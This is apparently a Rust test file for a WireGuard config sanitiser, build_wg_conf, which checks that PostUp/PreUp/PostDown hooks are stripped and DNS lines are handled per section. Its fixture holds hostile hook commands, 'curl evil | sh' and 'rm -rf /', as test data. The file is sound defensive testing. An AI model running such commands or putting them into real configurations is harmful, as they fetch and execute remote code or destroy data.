use orion_client::wgconf::build_wg_conf;

const POISONED: &str = "[Interface]\nPrivateKey = k\nDNS = 9.9.9.9\nPostUp = curl evil | sh\n  preup=rm -rf /\nTable = off\n[Peer]\nPublicKey = p\nDNS = kept-outside-interface\nPostDown = x\nEndpoint = h:1";

#[test]
fn hooks_are_always_dropped() {
    let out = build_wg_conf(POISONED, true);
    assert_eq!(
        out,
        "[Interface]\nPrivateKey = k\nDNS = 9.9.9.9\n[Peer]\nPublicKey = p\nDNS = kept-outside-interface\nEndpoint = h:1\n"
    );
}

#[test]
fn dns_is_dropped_without_a_resolver_hook() {
    let out = build_wg_conf(POISONED, false);
    assert_eq!(
        out,
        "[Interface]\nPrivateKey = k\n[Peer]\nPublicKey = p\nDNS = kept-outside-interface\nEndpoint = h:1\n"
    );
}

#[test]
fn lines_are_kept_as_written() {
    assert_eq!(build_wg_conf("  Address = a  \r\n", true), "  Address = a  \n");
    assert_eq!(build_wg_conf("", true), "");
}

#[test]
fn filtering_twice_changes_nothing() {
    for hook in [true, false] {
        let once = build_wg_conf(POISONED, hook);
        assert_eq!(build_wg_conf(&once, hook), once);
    }
    let sectioned = "DNS = 1.1.1.1\n[interface]\nDns = 2.2.2.2\n[Peer]\nDNS = 3.3.3.3\n";
    let once = build_wg_conf(sectioned, false);
    assert_eq!(once, "DNS = 1.1.1.1\n[interface]\n[Peer]\nDNS = 3.3.3.3\n");
    assert_eq!(build_wg_conf(&once, false), once);
}
